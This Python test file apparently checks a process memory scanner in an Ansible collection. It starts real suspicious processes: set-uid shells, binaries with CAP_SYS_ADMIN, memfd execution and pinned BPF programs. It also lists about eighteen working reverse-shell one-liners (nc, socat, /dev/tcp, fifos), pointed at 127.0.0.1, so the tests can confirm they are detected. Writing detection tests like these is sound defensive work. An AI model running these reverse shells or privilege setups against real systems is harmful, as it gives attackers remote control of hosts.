# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Who processes say to be, and what rights they have, beyond the bench of techniques: each started for real."""

from __future__ import annotations

import contextlib
import os
import pathlib
import shutil
import socket
import struct
import subprocess
import time
import typing as t

import pytest
from ansible_collections.bulwark.servers.plugins.module_utils import _bpf as bpf
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.proc import processes

from tests.integration.memory_scan import _memory
from tests.integration.memory_scan._techniques.bench import Bench, Started, wait_for, wait_for_quiet
from tests.integration.memory_scan._techniques.fixtures import NEEDS, bench, programs
from tests.support import give_up, paths, waiting

pytestmark = [pytest.mark.requires(*NEEDS), pytest.mark.xdist_group("memory")]

__all__ = ["bench", "programs"]

NOBODY = 65534
_SET_UID = 0o4755
_SLEEP = "/usr/bin/sleep"
# CAP_SYS_ADMIN, permitted and effective, as struct vfs_cap_data has it.
_SYS_ADMIN = struct.pack("<5I", 0x02000001, 1 << 21, 0, 0, 0)


# BPF_PROG_LOAD (5) of "return 0" as a socket filter, and BPF_OBJ_PIN (6) of it in a directory (uapi/linux/bpf.h).
_PINS = """
import ctypes, os, sys
sys.path.insert(0, "{path}")
from ansible_collections.bulwark.servers.plugins.module_utils import _bpf as bpf
code = ctypes.create_string_buffer(bytes.fromhex("b700000000000000" "9500000000000000"))
licence = ctypes.create_string_buffer(b"GPL")
short, long = ctypes.c_uint32, ctypes.c_uint64
class Load(ctypes.Structure):
    _fields_ = [("type", short), ("count", short), ("code", long), ("licence", long)]
class Pin(ctypes.Structure):
    _fields_ = [("path", long), ("descriptor", short), ("flags", short)]
kernel = bpf.Kernel()
loaded = kernel._call(5, Load(1, 2, ctypes.addressof(code), ctypes.addressof(licence)))
os.mkdir("/sys/fs/bpf/below")
place = ctypes.create_string_buffer(b"/sys/fs/bpf/below/program")
kernel._call(6, Pin(ctypes.addressof(place), loaded, 0))
number = bpf._number_of(os.getpid(), loaded)
os.close(loaded)
program = kernel.program(number)
print("known" if program is not None and kernel.pinned() == {{number}} else "unknown")
"""


def _seen(started: Started) -> set[tuple[str, str]]:
    """Return what is seen of a process, each with its severity."""
    result = _memory.scan(*started.tree)
    assert _memory.skipped(result) == []
    return {(sign["subtype"], sign["severity"]) for sign in _memory.signs(result) if sign["pid"] == started.pid}


def _as_nobody(bench: Bench, program: str, *arguments: str, **options: t.Any) -> Started:
    return bench.run(program, *arguments, speaks=False, user=NOBODY, group=NOBODY, extra_groups=[], **options)


def _copy(source: str, target: pathlib.Path) -> str:
    shutil.copy(source, target)
    target.chmod(0o755)
    return str(target)


@contextlib.contextmanager
def _silence() -> t.Iterator[int]:
    """Give the end to read of a pipe into which nothing is written."""
    reading, writing = os.pipe()
    try:
        yield reading
    finally:
        os.close(reading)
        os.close(writing)


def test_a_set_uid_program_in_a_temporary_place(bench: Bench) -> None:
    program = _copy(_SLEEP, bench.scratch / "sleep")
    os.chmod(program, _SET_UID)
    seen = _seen(_as_nobody(bench, program, "1000"))
    assert seen == {("set_user_program", "high"), ("temporary_executable", "low")}


def test_a_set_uid_shell(bench: Bench) -> None:
    program = _copy("/bin/bash", bench.programs.directory / "bash")
    os.chmod(program, _SET_UID)
    with _silence() as reading:
        started = _as_nobody(bench, program, "-p", "-c", "read x", stdin=reading)
        seen = _seen(started)
    os.unlink(program)
    assert seen == {("set_user_program", "high")}


def test_capabilities_of_a_program_in_a_temporary_place(bench: Bench) -> None:
    program = _copy(_SLEEP, bench.scratch / "tool")
    os.setxattr(program, "security.capability", _SYS_ADMIN)
    seen = _seen(_as_nobody(bench, program, "1000"))
    assert seen == {("capabilities_without_way", "high"), ("temporary_executable", "medium")}


def test_capabilities_that_an_administrator_gives(bench: Bench) -> None:
    program = _copy(_SLEEP, bench.programs.directory / "tool")
    os.setxattr(program, "security.capability", _SYS_ADMIN)
    seen = _seen(_as_nobody(bench, program, "1000"))
    os.unlink(program)
    assert seen == {("unexpected_capabilities", "informational")}


def test_capabilities_of_an_interpreter(bench: Bench) -> None:
    program = _copy(os.path.realpath("/usr/bin/python3"), bench.programs.directory / "python3.99")
    os.setxattr(program, "security.capability", _SYS_ADMIN)
    seen = _seen(_as_nobody(bench, program, "-I", "-S", "-c", "import time; time.sleep(1000)"))
    os.unlink(program)
    assert seen == {("interpreter_with_capabilities", "high")}


_OVER_STREAMS = {
    "fifo": "mkfifo f; sh -i <f 2>&1 | nc 127.0.0.1 {port} >f &",
    "cat": "mkfifo f; cat f | sh -i 2>&1 | nc 127.0.0.1 {port} >f &",
    "two fifos that are removed": "mkfifo a b; sh -i <a >b 2>&1 & nc 127.0.0.1 {port} >a <b &"
    " until ss -Htn 'dport = :{port}' | grep -q .; do sleep 0.05; done; rm a b;",
    "two names": "mkfifo a; ln a b; sh -i <a 2>&1 | nc 127.0.0.1 {port} >b &",
    "many hops": "mkfifo a b; cat a | cat | cat | bash 2>&1 | cat | cat >b & cat b | nc 127.0.0.1 {port} | cat >a &",
    "script": "mkfifo a; bash a 2>&1 | nc 127.0.0.1 {port} >a &",
    "socat": "socat tcp:127.0.0.1:{port} exec:/bin/sh,pipes &",
    "socat and a fifo": "mkfifo a; sh <a 2>&1 | socat - tcp:127.0.0.1:{port} >a &",
    "pipes alone": "nc -l -s 127.0.0.1 -p {free} 0<&- | sh 2>&1 | nc 127.0.0.1 {port} &"
    " until ss -Hltn 'sport = :{free}' | grep -q .; do sleep 0.05; done; nc 127.0.0.1 {free} &",
    "a pair of sockets": "socat tcp:127.0.0.1:{port} exec:/bin/bash &",
    "a pair of sockets of another network": "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port};"
    " exec unshare -n socat fd:3 exec:/bin/bash' &",
    "a terminal": "socat tcp:127.0.0.1:{port} exec:/bin/bash,pty,stderr,setsid,sane &",
    "two programs and a terminal": "socat pty,link=t,raw exec:/bin/bash &"
    " until [ -e t ]; do sleep 0.05; done; socat tcp:127.0.0.1:{port} ./t &",
    "a recorder's terminal": "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port};"
    " exec script -qc bash /dev/null <&3 >&3 3>&-' &",
    "a terminal in other mounts": "socat tcp:127.0.0.1:{port} exec:'unshare -m bash',pty,stderr,setsid,sane &",
    "a terminal among others": "unshare -m sh -c 'mount -t devpts -o newinstance devpts /dev/pts;"
    " mount --bind /dev/pts/ptmx /dev/ptmx; socat tcp:127.0.0.1:{port} exec:bash,pty,stderr,setsid,sane' &",
    "whatever terminal it has": "echo 'exec bash </dev/tty >/dev/tty 2>&1' >t;"
    " socat tcp:127.0.0.1:{port} exec:'bash t',pty,stderr,setsid,ctty,sane &",
}


@pytest.mark.requires("command:nc", "command:ss", "command:socat", "command:script")
@pytest.mark.parametrize("script", [pytest.param(script, id=name) for name, script in _OVER_STREAMS.items()])
def test_a_shell_that_a_connection_reaches_over_streams(script: str, bench: Bench) -> None:
    seen = _around_a_connection(bench, script)
    assert {one for one in seen if one[1] != "informational"} == {("shell_on_connection", "high")}


@pytest.mark.requires("command:bash")
@pytest.mark.parametrize("beside", ["", "sleep 1000 & "])
def test_a_shell_that_reads_commands_from_a_connection_of_its_own(bench: Bench, beside: str) -> None:
    """Do so alone, and with a program that it has started, which has the connection as well."""
    loop = f"exec 5<>/dev/tcp/127.0.0.1/{{port}}; {beside}while read line <&5; do eval $line >&5; done"
    assert _around_a_connection(bench, f"bash -c '{loop}' &") == {("piped_program_connected", "low")}


_ORDINARY_STREAMS = {
    "a descriptor that was left open": """/usr/bin/python3 -c '
import socket, subprocess
connection = socket.create_connection(("127.0.0.1", {port}))
subprocess.run(["bash", "-c", "sleep 1000; true"], pass_fds=[connection.fileno()])' &""",
    "a fifo that a script writes": "mkfifo f; sh <f & (echo sleep 1000; sleep 1000) >f &"
    " nc 127.0.0.1 {port} </dev/null &",
    "a logger": "mkfifo f; nc 127.0.0.1 {port} <f & sh -c 'sleep 1000; true' >f &",
    "a recorder of a session": "script -qc 'sh -c \"sleep 1000; true\"' /dev/null & nc 127.0.0.1 {port} </dev/null &",
    "a terminal of a program with a connection": """/usr/bin/python3 -c '
import os, pty, socket
child, master = pty.fork()
if not child: os.execv("/bin/bash", ["bash", "-i"])
connection = socket.create_connection(("127.0.0.1", {port})); os.waitpid(child, 0)' &""",
    "a pair of sockets of a program with a connection": """/usr/bin/python3 -c '
import socket, subprocess
connection, (mine, its) = socket.create_connection(("127.0.0.1", {port})), socket.socketpair()
subprocess.run(["bash", "-s"], stdin=its, stdout=its)' &""",
    "a terminal of the same number elsewhere": """/usr/bin/python3 -c '
import os, subprocess
_master, slave = os.openpty()
subprocess.Popen(["bash", "-i"], stdin=slave, stdout=slave, stderr=slave, start_new_session=True)
opens = "import os, socket, sys; connection = socket.create_connection((\\"127.0.0.1\\", {port}));"
opens += "os.dup2(connection.fileno(), 0);"
opens += "all = [os.open(\\"p/ptmx\\", os.O_RDWR) for _ in range(int(sys.argv[1]) + 1)];"
opens += "[os.set_inheritable(one, True) for one in all];"
opens += "os.execvp(sys.argv[2], sys.argv[2:])"
mounts = "mkdir p; mount -t devpts -o newinstance devpts p; exec /usr/bin/python3 -c \\"$@\\""
number = os.ttyname(slave).rpartition("/")[2]
subprocess.run(["unshare", "-m", "sh", "-c", mounts, "sh", opens, number,
    "nsenter", "-m", "-t", str(os.getpid()), "sleep", "1000"])' &""",
    "automation beside a program with a connection, both with a journal": """/usr/bin/python3 -c '
import socket, subprocess, sys
journal = socket.socket(socket.AF_UNIX); journal.bind("j"); journal.listen(); taken = []
def start(*line):
    output = socket.socket(socket.AF_UNIX); output.connect("j"); output.shutdown(socket.SHUT_RD)
    taken.append(journal.accept()[0]); taken[-1].shutdown(socket.SHUT_WR)
    return subprocess.Popen(line, stdin=subprocess.DEVNULL, stdout=output)
start(sys.executable, "-c", "import subprocess as s;"
    "shell = s.Popen([\\"bash\\", \\"-s\\"], stdin=s.PIPE, stdout=s.PIPE);"
    "shell.stdin.write(b\\"sleep 1000; true\\\\n\\"); shell.stdin.flush(); shell.wait()")
start("nc", "127.0.0.1", "{port}").wait()' &""",
    "a pipe to a logger": "sh -c 'sleep 1000; true' | nc 127.0.0.1 {port} &",
    "automation": """/usr/bin/python3 -c '
import socket, subprocess
connection = socket.create_connection(("127.0.0.1", {port}))
shell = subprocess.Popen(["bash", "-s"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
shell.stdin.write(b"sleep 1000; true\\n"); shell.stdin.flush(); shell.wait()' &""",
}


@pytest.mark.requires("command:nc", "command:script")
@pytest.mark.parametrize("script", [pytest.param(script, id=name) for name, script in _ORDINARY_STREAMS.items()])
def test_streams_beside_a_connection_are_ordinary(script: str, bench: Bench) -> None:
    assert {severity for _subtype, severity in _around_a_connection(bench, script)} <= {"informational"}


def _around_a_connection(bench: Bench, script: str) -> set[tuple[str, str]]:
    """Return what is seen of the processes of a script that has connected, each with its severity."""
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_server(("127.0.0.1", 0)) as other:
        free = other.getsockname()[1]
        other.close()
        line = script.format(port=server.getsockname()[1], free=free)
        started = bench.run("/bin/sh", "-c", f"{line} echo ready; sleep 1000", cwd=bench.scratch)
        server.settimeout(waiting.SECONDS)
        connection, _address = server.accept()
        with connection:
            result = _memory.scan(*wait_for_quiet(started.pid))
    assert _memory.skipped(result) == []
    return {(sign["subtype"], sign["severity"]) for sign in _memory.signs(result)}


def test_a_reverse_shell_without_shellcode(bench: Bench) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as client:
        number = client.fileno()
        started = bench.run(
            "/bin/bash", "--norc", "-i", speaks=False, stdin=number, stderr=number, name="nginx: worker"
        )
        assert _seen(started) == {("shell_on_connection", "high"), ("system_program_name", "high")}


def test_a_shell_that_was_made_longer_is_one(bench: Bench) -> None:
    """Have another size and other headers than the host's shell."""
    copy = pathlib.Path(shutil.copy("/bin/bash", bench.programs / "agent"))
    content = bytearray(copy.read_bytes() + b"more")
    content[9] = 1
    copy.write_bytes(content)
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as client:
        number = client.fileno()
        started = bench.run(str(copy), "--norc", "-i", speaks=False, stdin=number, stderr=number)
        assert _seen(started) == {("shell_on_connection", "high")}


def test_a_script_that_is_deleted_while_it_runs(bench: Bench) -> None:
    script = bench.scratch / "install.sh"
    script.write_text("echo ready\nread x\n", encoding="utf-8")
    with _silence() as reading:
        started = bench.run("/bin/bash", str(script), stdin=reading)
        script.unlink()
        assert _seen(started) == {("interpreter_deleted_script", "low")}


def test_a_command_line_of_nothing(bench: Bench) -> None:
    with _silence() as reading:
        started = bench.run("/usr/bin/cat", name="", speaks=False, stdin=reading)
        assert _seen(started) == {("command_line_erased", "low")}


def test_a_here_document_is_everyday_work(bench: Bench) -> None:
    command = "python3 - <<'X'\nimport time; print('ready', flush=True); time.sleep(1000)\nX\n"
    started = bench.run("/bin/bash", "-c", command)
    assert all(severity == "informational" for _subtype, severity in _seen(started))


def test_a_service_with_a_private_place_runs_the_hosts_programs(bench: Bench) -> None:
    """A mount namespace of its own does not make a program another; the upgrade of one is known there, too."""
    started = bench.run(
        "/usr/bin/unshare", "--mount", "/bin/sh", "-c", f"mount -t tmpfs x /var/tmp; echo ready; exec {_SLEEP} 1000"
    )
    assert _seen(started) == set()


def test_a_program_that_a_private_mount_hides(bench: Bench) -> None:
    command = f"mount -t tmpfs -o mode=755 x /opt; cp {_SLEEP} /opt/agent; echo ready; exec /opt/agent 1000"
    started = bench.run("/usr/bin/unshare", "--mount", "/bin/sh", "-c", command)
    assert ("temporary_executable", "medium") in _seen(Started(started.pid, {}, started.tree))


def test_a_container_runtime_that_protects_itself(bench: Bench) -> None:
    """Run the content of a runtime from memory: a copy of one that is there is known, the same name alone is not."""
    runtime = "/usr/local/bin/crun"
    if os.path.lexists(runtime):
        give_up("there is a crun, whose place is needed")
    _copy(_SLEEP, pathlib.Path(runtime))
    try:
        known = bench.run(
            bench.programs / "memory_file", "runc_cloned:/proc/self/exe", _SLEEP, "sleep", "1000", speaks=False
        )
        assert _seen(known) == {("runtime_in_memory", "informational")}
    finally:
        os.unlink(runtime)
    unknown = bench.run(
        bench.programs / "memory_file", "runc_cloned:/proc/self/exe", _SLEEP, "sleep", "1000", speaks=False
    )
    assert _seen(unknown) == {("memfd_executable", "high")}


def test_the_kernel_s_programs_and_who_holds_them(bench: Bench) -> None:
    """Load a program, and ask for that one only, while it is there and when it is gone."""
    kernel = bpf.Kernel()
    started = bench.run(bench.programs / "privilege", "bpf")
    collector = processes.Collector()
    try:
        holder = collector.read(started.pid)
    finally:
        collector.close()
        collector.mounts.close()
    assert holder is not None
    (number,) = kernel.held_by(holder)
    program = kernel.program(number)
    assert program is not None
    assert (program.id, program.kind, program.user, program.maps) == (number, "socket_filter", 0, ())
    assert len(program.tag) == 16
    assert 0 <= program.loaded <= time.clock_gettime(time.CLOCK_BOOTTIME)
    assert number in {one.id for one in kernel.programs()}
    bench.close()
    wait_for(lambda: kernel.program(number) is None, "the program to be gone")


def test_programs_with_a_name_are_known() -> None:
    """Pin one in a file system of a mount namespace of its own."""
    script = _PINS.format(path=os.fspath(paths.COLLECTIONS))
    command = "mount -t bpf bpf /sys/fs/bpf && exec /usr/bin/python3 -"
    answer = subprocess.run(
        ["/usr/bin/unshare", "--mount", "/bin/sh", "-c", command],
        input=script,
        capture_output=True,
        text=True,
        check=False,
    )
    assert (answer.returncode, answer.stderr) == (0, "")
    assert answer.stdout == "known\n"
